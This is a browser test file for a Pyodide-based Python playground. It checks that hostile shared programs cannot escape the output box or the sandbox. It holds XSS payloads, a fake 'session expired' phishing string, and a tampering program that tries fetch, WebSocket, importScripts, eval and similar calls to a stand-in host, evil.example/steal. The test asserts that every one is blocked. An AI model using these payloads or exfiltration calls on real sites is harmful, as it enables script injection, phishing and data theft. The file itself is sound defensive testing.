"""The playground against what a hostile program (a shared #code= link is enough) or a curious reader throws at it.

Real Chromium, real Pyodide. Every Run gets a fresh Python (python-session.js), so each run here costs a Python
start: one page drives the checks, as subtests, and each program carries as many cases as it can. The cases of
issue 30: a program that plants a player whose frame keys are page-wide selectors, and forged markup; one that
tampers with files, modules and interpreter settings, plants a busy `__del__` and a busy timer, and tries every
way out of the site, followed by a probe run that sees none of it and prints a 30-million-character line; a
Python that dies. Then what a reader meets: long chains, deep recursion, memory, printed output, the keyboard,
links. (The time limit and Stop: tests/runtime/test_playground.py.)
"""

from __future__ import annotations

import base64
import re
from collections.abc import Iterator
from typing import Any

import pytest

pytest.importorskip("playwright.sync_api")

from helpers import keep_inside  # noqa: E402

pytestmark = [pytest.mark.browser, pytest.mark.site]

MARKER = "window.__ggPwned"
"""A global any injected script in these tests would set (it must stay undefined)."""

LINEAR_ANSWER = "L = 9; w.grad = -18, x.grad = -12, b.grad = -6, y.grad = 6"

LIMIT_S = 60
"""The page's time limit here (?limit=): no program in this file should meet it."""


class Reader:
    """One playground page, the requests it made, the dialogs it opened and the errors it logged."""

    def __init__(self, context: Any, url: str, site_url: str) -> None:
        self.dialogs: list[str] = []
        self.page = context.new_page()
        self.requests, self.outside = keep_inside(self.page, site_url)
        self.page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        self.page.goto(url)

    def status(self) -> str:
        return self.page.inner_text("[data-gg-status]")

    def run(self, code: str, *, keyboard: bool = False) -> str:
        """Put `code` in the editor, press Run, wait until Run is enabled again; return the output's text."""
        self.page.fill("textarea", code)
        if keyboard:
            self.page.focus("[data-gg-do=run]")
            self.page.keyboard.press("Enter")
        else:
            self.page.click("[data-gg-do=run]")
        self.page.wait_for_function("() => !document.querySelector('[data-gg-do=run]').disabled", timeout=90_000)
        return self.page.inner_text("[data-gg-output]")

    def printed(self) -> str:
        return self.page.inner_text("[data-gg-console]").rstrip("\n")


@pytest.fixture(scope="module")
def context(browser: Any) -> Iterator[Any]:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    yield context
    context.close()


EVIL = (
    '<img src=x onerror="window.__ggPwned=1;alert(1)">'
    '<svg onload="window.__ggPwned=2"><g class="gg-value" id="gg-evil" onmouseover="window.__ggPwned=3"></g></svg>'
    '<a href="javascript:window.__ggPwned=4">link</a><iframe srcdoc="<script>parent.__ggPwned=5</script>"></iframe>'
    "<style>@import url(https://evil.example/style.css); body { display: none }</style>"
    '<div style="background:url(https://evil.example/bg.png)" data-gg-do="run" data-gg-status>styled</div>'
    "<p>evil text kept</p>"
)

PLANTER = f"""\
import inspect, json, re, sys
from glassgrad.scratch import Value, backward, multiply
from glassgrad.viz import animate_backward

EVIL = {EVIL!r}
# The page's id prefix for this run, read from the runtime's frames (a hostile program can).
prefix = next((f.frame.f_locals["prefix"] for f in inspect.stack() if isinstance(f.frame.f_locals.get("prefix"), str)), "ggrun1")
w = Value(2.0, "w")
L = multiply(w, w, "L")
steps = backward(L)
player = str(animate_backward(L, steps, id_prefix=prefix + "-planted"))
frames = {{"frames": [
    {{"label": "a", "text": "b", "marks": {{}}, "texts": {{}}, "focus": ""}},
    {{"label": "c", "text": "d", "focus": "x, .md-header__topic",
      "marks": {{"x, .md-header__topic": "gg-current", prefix + "-planted-x, body": "gg-hidden"}},
      "texts": {{"x, style": "@import url(https://evil.example/frame.css);",
                "x, .md-header__topic": "Your session expired: sign in again at evil.example",
                prefix + "-planted-card, .md-header__topic": "Session expired",
                prefix + "-planted-card": "<img src=y onerror=window.__ggPwned=6><style>*{{}}</style>kept card"}}}},
]}}
player = re.sub(r'(<script type="application/json" class="gg-frames">).*?(</script>)',
                lambda m: m.group(1) + json.dumps(frames).replace("<", "\\\\u003c") + m.group(2), player, flags=re.S)
player = player.replace('data-gg-player="backward"', 'data-gg-player="backward" data-gg-graph="x, style"', 1)
forged = EVIL + player
for module in list(sys.modules.values()):  # the runner's renderers, wherever it keeps them
    if getattr(module, "__name__", "").startswith(("glassgrad", "playground", "glassgrad_runtime")):
        for name in ("show_complete_state", "animate_order"):
            if callable(getattr(module, name, None)):
                setattr(module, name, lambda *args, **kwargs: forged)
"""
"""Plants forged markup and a player whose frame keys are page-wide selectors in every part of the result."""


def planted_players_touch_nothing_outside_their_box(reader: Reader) -> None:
    page = reader.page
    header = page.inner_text(".md-header__topic")
    styles = page.evaluate("[...document.querySelectorAll('style')].map(s => s.textContent)")
    text = reader.run(PLANTER)
    assert "evil text kept" in text  # the forged markup did reach the page's sanitizer
    page.hover(".gg-pg-output")  # any onmouseover would fire
    # Every button of every player, as a reader would press them (Forward, End, Back, Forward again).
    planted = page.evaluate(
        """() => {
          const players = [...document.querySelectorAll('.gg-pg-output .gg-player')];
          for (const action of ['forward', 'end', 'back', 'forward'])
            for (const button of document.querySelectorAll(`.gg-pg-output [data-gg-action=${action}]`)) button.click();
          return players.filter(p => p.id.endsWith('-planted-player') && p.hasAttribute('data-gg-step')).length;
        }"""
    )
    assert planted >= 1  # the planted player was started, and stepped
    assert page.inner_text(".md-header__topic") == header
    assert page.evaluate("[...document.querySelectorAll('style')].map(s => s.textContent)") == styles
    assert page.locator(".gg-pg-output style, .gg-pg-output [data-gg-graph], .gg-pg-output [data-gg-do]").count() == 0
    assert page.locator(".gg-pg-output img, .gg-pg-output iframe, .gg-pg-output a").count() == 0
    assert page.evaluate(
        "[...document.querySelectorAll('.gg-pg-output [style]')].map(e => e.getAttribute('style'))"
    ) == [
        style
        for style in page.evaluate(
            "[...document.querySelectorAll('.gg-pg-output [style]')].map(e => e.getAttribute('style'))"
        )
        if "url" not in style and "@" not in style
    ]
    handlers = page.evaluate(
        """() => [...document.querySelectorAll('.gg-pg-output *')].flatMap(el => [...el.attributes]
             .filter(a => a.name.startsWith('on') || /javascript:/i.test(a.value)).map(a => el.tagName + ' ' + a.name))"""
    )
    assert handlers == []
    assert page.evaluate("document.querySelectorAll('.gg-current, .gg-hidden').length") == page.evaluate(
        "document.querySelectorAll('.gg-pg-output .gg-current, .gg-pg-output .gg-hidden').length"
    )
    assert page.evaluate(MARKER) is None
    assert reader.dialogs == []
    assert page.locator("body").is_visible()
    assert reader.outside == []


def players_look_up_only_their_own_ids(reader: Reader) -> None:
    """glassgrad.js alone (no Python): a player given page-wide keys changes nothing outside its figure."""
    page = reader.page
    changed = page.evaluate(
        """() => {
      const source = document.querySelector('article details .gg-player');  // a preset drawn at build time
      const box = document.createElement('div');
      box.setAttribute('data-gg-sandbox', '');
      box.innerHTML = source.outerHTML.replace(/ data-gg-ready=""/, '');
      const player = box.querySelector('.gg-player');
      const prefix = player.id.replace(/-player$/, '');
      player.querySelector('script.gg-frames').textContent = JSON.stringify({frames: [
        {label: 'a', text: 'b', marks: {}, texts: {}, focus: ''},
        {label: 'c', text: 'd', focus: 'x, style', marks: {'x, .md-header__topic': 'gg-current'},
         texts: {'x, style': '@import url(https://evil.example/a.css);', 'x, .md-header__topic': 'Session expired',
                 [prefix + '-card']: '<b class="gg-x">kept</b><img src=z onerror="window.__ggPwned=7">'}},
      ]});
      document.querySelector('article').appendChild(box);
      const header = document.querySelector('.md-header__topic').textContent;
      const style = document.querySelector('style').textContent;
      window.glassgrad.players.initAll(box);
      player.querySelector('[data-gg-action=forward]').click();
      const card = box.querySelector('#' + prefix + '-card');
      // An attached player (data-gg-graph) inside an output box is not started at all.
      const attached = box.cloneNode(true);
      attached.querySelector('.gg-player').setAttribute('data-gg-graph', 'x, style');
      attached.querySelector('.gg-player').removeAttribute('data-gg-ready');
      attached.querySelector('.gg-player').removeAttribute('data-gg-step');
      document.querySelector('article').appendChild(attached);
      window.glassgrad.players.initAll(attached);
      const result = {
        header: document.querySelector('.md-header__topic').textContent === header,
        style: document.querySelector('style').textContent === style,
        card: card.innerHTML, step: player.getAttribute('data-gg-step'),
        attached: attached.querySelector('.gg-player').getAttribute('data-gg-step'),
      };
      box.remove(); attached.remove();
      return result;
    }"""
    )
    assert changed == {"header": True, "style": True, "card": '<b class="gg-x">kept</b>', "step": "1", "attached": None}
    assert page.evaluate(MARKER) is None


TAMPER = """\
import builtins, gc, js, os, random, sys, warnings, pathlib
import glassgrad.scratch as scratch
# Files: the engine and the checker, on Python's in-memory disk.
engine = pathlib.Path(scratch.__file__)
engine.write_text(engine.read_text() + "\\ndef backward(root):\\n    root.grad = 6000.0\\n    return []\\n")
import glassgrad.exercises as exercises
pathlib.Path(exercises.__file__).write_text("def check_program(*args, **kwargs):\\n    raise SystemExit\\n")
pathlib.Path("/tmp/planted").write_text("planted")
# Modules and interpreter settings.
scratch.multiply = lambda u, v, label="": scratch.Value(0.0, label)
class Finder:
    def find_spec(self, *args):
        return None
sys.meta_path.insert(0, Finder())
gc.disable()
os.environ["PLANTED"] = "1"
sys.setprofile(lambda *args: None)
sys.excepthook = lambda *args: None
os.chdir("/tmp")
warnings.simplefilter("error")
random.random = lambda: 0.5
sys.setrecursionlimit(50)
# Busy after its answer: a __del__ that never returns, a timer that never returns, the worker closed.
class Busy:
    def __del__(self):
        while True:
            pass
keep = Busy()
def spin():
    while True:
        pass
js.setTimeout(spin, 0)
# Every way out of the site.
tried = {}
def attempt(name, action):
    try:
        answer = action()
        tried[name] = "pending" if hasattr(answer, "then") else "REACHED"  # a promise: the request guard judges it
    except BaseException as error:
        tried[name] = "blocked"
URL = "https://evil.example/steal"
attempt("fetch", lambda: js.fetch(URL))
attempt("XMLHttpRequest", lambda: js.XMLHttpRequest.new().open("GET", URL))
attempt("WebSocket", lambda: js.WebSocket.new("wss://evil.example/"))
attempt("EventSource", lambda: js.EventSource.new(URL))
attempt("importScripts", lambda: js.importScripts(URL))
attempt("Worker", lambda: js.Worker.new(URL))
attempt("BroadcastChannel", lambda: js.BroadcastChannel.new("glassgrad").postMessage("hi"))
attempt("indexedDB", lambda: js.indexedDB.open("glassgrad"))
attempt("caches", lambda: js.caches.open("glassgrad"))
attempt("FontFace", lambda: js.FontFace.new("x", f"url({URL})").load())
attempt("eval", lambda: js.eval(f"import('{URL}')"))
attempt("Function", lambda: js.Object.constructor(f"return import('{URL}')")())
attempt("string timer", lambda: js.setTimeout(f"import('{URL}')", 0))
attempt("run_js", lambda: __import__("pyodide.code").code.run_js(f"import('{URL}')"))
attempt("pyfetch", lambda: __import__("pyodide.http").http.open_url(URL))
attempt("loadPackage", lambda: __import__("pyodide_js").loadPackage(URL + ".whl"))
attempt("close", lambda: js.close())
print(sorted(tried.items()))
L = scratch.Value(1.0, "L")
"""
"""Tampers with the engine's and the checker's files, modules and settings, leaves its Python busy, tries every way out."""

PROBE = """\
import gc, os, random, sys, warnings, pathlib
import glassgrad.exercises
print("probe:", gc.isenabled(), os.environ.get("PLANTED"), type(sys.meta_path[0]).__name__ != "Finder",
      sys.getprofile(), getattr(sys.excepthook, "__name__", "") != "<lambda>", os.getcwd() != "/tmp",
      not [f for f in warnings.filters if f[0] == "error"], random.random() != 0.5,
      pathlib.Path("/tmp/planted").exists(), sys.getrecursionlimit() > 50,
      hasattr(glassgrad.exercises, "EXERCISES"))
print("x" * 30_000_000)
"""


def tampering_and_busy_pythons_do_not_reach_the_next_run(reader: Reader) -> None:
    page = reader.page
    reader.run(TAMPER)
    tried = reader.printed()
    assert "REACHED" not in tried, tried
    assert tried.count("blocked") == 16 and "('loadPackage', 'pending')" in tried, tried
    page.select_option("select", "linear")
    linear = page.input_value("textarea")
    # The next Run: a fresh Python, none of the above in it; the busy one is gone.
    assert reader.run(PROBE + linear).startswith(LINEAR_ANSWER)
    lines = reader.printed().splitlines()
    assert len(lines) == 3 and lines[0] == "probe: True None True None True True True True False True True", lines[0]
    # One 30-million-character line: its first characters (a run's output stops at 200,000), the rest counted.
    assert set(lines[1]) == {"x"} and 190_000 < len(lines[1]) < 200_000, len(lines[1])
    left_out = re.fullmatch(r"… 1 more line and ([\d,]+) characters not shown \(.*\)", lines[2])
    assert left_out and 29_800_000 < int(left_out[1].replace(",", "")) < 30_000_000, lines[2]
    assert reader.outside == []


def a_python_that_dies_is_restarted_and_says_so(reader: Reader) -> None:
    reader.run("import os\nprint('before')\nos.abort()\n")
    assert "was restarted" in reader.status(), reader.status()
    assert reader.run("print('after')\nL = 1\n").startswith("L is an int")
    assert reader.printed() == "after"


def chain(size: int, engine: str = "glassgrad.scratch") -> str:
    return f"from {engine} import Value, multiply\nL = Value(1.0, 'x')\nfor _ in range({size}):\n    L = multiply(L, Value(1.0001))\n"


def long_chains_and_deep_recursion_get_their_message(reader: Reader) -> None:
    # glassgrad's backward walks 100,000 values (and a chain of the reader's own objects is freed too).
    own = "class Node:\n    def __init__(self, before):\n        self.before = before\nnode = None\nfor _ in range(100_000):\n    node = Node(node)\n"
    fast = "from glassgrad import Value\nL = Value(1.0)\nfor _ in range(100_000):\n    L = L * Value(1.0001)\nL.backward()\nprint(L.grad, L.data > 1)\n"
    assert reader.run(own + fast) == "The graph of L has 200001 values; the playground draws at most 40."
    assert reader.printed() == "1.0 True"
    # The teaching engine's recursive walk says why it cannot go this deep.
    deep = reader.run(chain(5_000) + "from glassgrad.scratch import backward\nsteps = backward(L)\n")
    assert deep.startswith("Recursion too deep on line 6:")
    assert "recursive walk" in deep and "cycle" not in deep


def a_value_linked_to_values_is_named(reader: Reader) -> None:
    # Operands where ParentLinks belong: the message says what to write instead, never a traceback.
    text = reader.run("from glassgrad.scratch import Value\nw = Value(2.0, 'w')\nL = Value(4.0, parents=(w,))\n")
    assert "L.parents holds Values; wrap each in ParentLink(value, local_grad)" in text
    assert "Traceback" not in text and "glassgrad_runtime" not in text


def memory_gets_a_message(reader: Reader) -> None:
    text = reader.run("x = [0.0] * 10**9\n", keyboard=True)  # the keyboard's Run, on the Run button
    assert text.startswith("Out of memory on line 1: the program asked for more memory than this page can give it.")
    assert reader.page.evaluate("document.activeElement.dataset.ggDo") == "run"  # focus stays on a control


def printed_output_in_order_and_capped(reader: Reader) -> None:
    reader.run(
        "import sys\nfor i in range(2_500):\n    print('line', i)\nprint('to stderr', file=sys.stderr)\nprint('last', end='')\n"
    )
    # The console draws at most 10,000 characters a frame: the last lines show a few frames after the run ends.
    reader.page.wait_for_function("() => document.querySelector('[data-gg-console]').textContent.endsWith('last\\n')")
    lines = reader.printed().splitlines()
    assert lines[0].startswith("… 501 earlier lines not shown")
    assert lines[1] == "line 501" and lines[-3] == "line 2499" and lines[-2:] == ["to stderr", "last"]
    assert reader.page.locator("[data-gg-console] .gg-pg-stderr").inner_text().strip() == "to stderr"


def links(reader: Reader, site_url: str) -> None:
    page = reader.page
    # A long program: the link is made, with a warning that it may be cut short.
    page.fill("textarea", "# " + "x" * 9_000 + "\n")
    page.click("[data-gg-do=link]")
    assert "characters long" in reader.status()
    # Editing #code= in the same tab loads it.
    program = "print('from the hash')\n"
    page.evaluate(
        "code => { location.hash = 'code=' + code }", base64.urlsafe_b64encode(program.encode()).decode().rstrip("=")
    )
    page.wait_for_function("() => document.querySelector('textarea').value.startsWith('print')")
    assert page.input_value("textarea") == program
    # A damaged link (not base64) says so and leaves the editor with what it would show without it.
    page.goto(f"{site_url}playground/?preset=linear#code=@@@@")
    page.wait_for_function("() => document.querySelector('[data-gg-status]').textContent.includes('could not be read')")
    assert "multiply(w, x" in page.input_value("textarea")


@pytest.mark.pyodide
def test_one_page_takes_every_program(context: Any, site_url: str, subtests: Any) -> None:
    """Each check in turn on one playground page, as a reader would go on: the page stays usable throughout."""
    # A generous time limit: the 100,000-value chains take seconds on a loaded machine (tests/runtime/test_playground.py
    # meets the limit).
    reader = Reader(context, f"{site_url}playground/?limit={LIMIT_S}", site_url)
    checks = [
        players_look_up_only_their_own_ids,
        planted_players_touch_nothing_outside_their_box,
        tampering_and_busy_pythons_do_not_reach_the_next_run,
        a_python_that_dies_is_restarted_and_says_so,
        long_chains_and_deep_recursion_get_their_message,
        a_value_linked_to_values_is_named,
        memory_gets_a_message,
        printed_output_in_order_and_capped,
        lambda reader: links(reader, site_url),  # last: it loads other addresses
    ]
    try:
        for check, name in zip(checks, [*(check.__name__ for check in checks[:-1]), "links"]):
            with subtests.test(name.replace("_", " ")):
                check(reader)
        assert reader.dialogs == []
    finally:
        reader.page.close()


def test_query_parameters_are_checked(context: Any, site_url: str) -> None:
    page = context.new_page()
    try:
        page.goto(f"{site_url}playground/?preset=linear")
        linear = page.input_value("textarea")
        for name in ("__proto__", "toString", "constructor"):
            page.goto(f"{site_url}playground/?preset={name}")
            assert page.input_value("textarea") == linear
        page.goto(f"{site_url}playground/?limit=abc")
        assert "?limit= must be a number of seconds" in page.inner_text("[data-gg-status]")
    finally:
        page.close()


def test_without_javascript_no_one_is_told_to_press_run(browser: Any, site_url: str) -> None:
    context = browser.new_context(java_script_enabled=False)
    try:
        page = context.new_page()
        page.goto(f"{site_url}playground/")
        visible = page.inner_text("article")
        assert "needs JavaScript" in visible
        assert not re.search(r"\b(Run|Stop|Ctrl\+Enter)\b", visible)
    finally:
        context.close()
